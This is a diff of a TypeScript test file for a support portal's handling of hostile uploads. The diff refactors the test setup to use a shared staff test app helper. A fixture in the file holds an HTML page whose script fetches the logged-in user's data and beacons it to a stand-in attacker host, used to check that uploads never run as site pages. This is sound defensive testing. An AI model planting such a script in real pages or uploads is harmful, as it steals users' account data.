@@ -1,11 +1,11 @@
 import { eq } from 'drizzle-orm';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { documents, ticketAttachments, ticketReplies, tickets } from '../../db/schema.ts';
 import { renderPdf } from '../../lib/pdf.ts';
 import { DEMO_USERS } from '../../seed/demo.ts';
 import { sessionCookieFor } from '../sign-in.ts';
-import { createTestApp, type TestApp } from '../test-app.ts';
-import { multipartBody, staffTestContext } from '../staff-context.ts';
+import { useStaffTestApp } from '../staff-test-app.ts';
+import { multipartBody } from '../staff-context.ts';
 
 const SCRIPT_PAGE = Buffer.from(
   '<!doctype html><html><body><script>fetch("/api/auth/user").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></body></html>',
@@ -22,15 +22,12 @@ const FILE_CSP = "sandbox; default-src 'none'";
 
 // Issue 13, item 2: an uploaded file never runs as a page of the site.
 describe('hostile uploads, as the portal serves them', () => {
-  let t: TestApp;
-  let ctx: Awaited<ReturnType<typeof staffTestContext>>;
+  const t = useStaffTestApp();
+  const { ctx } = t;
   let customer: string;
   beforeAll(async () => {
-    t = await createTestApp();
-    ctx = await staffTestContext(t.app);
     customer = await sessionCookieFor(t.app, DEMO_USERS.acme);
   });
-  afterAll(() => t.close());
 
   async function upload(name: string, declaredType: string, data: Buffer) {
     const body = await multipartBody({ category: 'other' }, { name, type: declaredType, data });
